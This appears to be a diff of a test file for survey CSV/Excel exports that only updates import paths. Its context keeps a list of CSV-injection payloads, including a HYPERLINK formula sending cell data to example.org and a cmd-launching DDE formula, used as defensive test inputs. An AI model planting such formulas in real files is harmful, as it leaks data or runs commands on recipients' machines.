@@ -3,10 +3,10 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import ExcelJS from 'exceljs';
 import { sql } from 'drizzle-orm';
 import JSZip from 'jszip';
-import { parseCsvRows } from '../src/lib/csv.js';
-import { createTestApp, loginAs, roleCaller, type TestApp } from './helpers.js';
-import { newProject, openFieldPhase } from './support/surveys.js';
-import { mixPool } from '../src/modules/surveys/mixing.js';
+import { parseCsvRows } from '../../../lib/csv.js';
+import { createTestApp, loginAs, roleCaller, type TestApp } from '../../../../test/helpers.js';
+import { newProject, openFieldPhase } from './factories.js';
+import { mixPool } from '../mixing.js';
 
 // Free-text answers that spreadsheet software would run as formulas (CSV injection).
 const FORMULAS = ['=HYPERLINK("https://example.org/?d="&A1,"Klick")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3', '+49 351 123'];
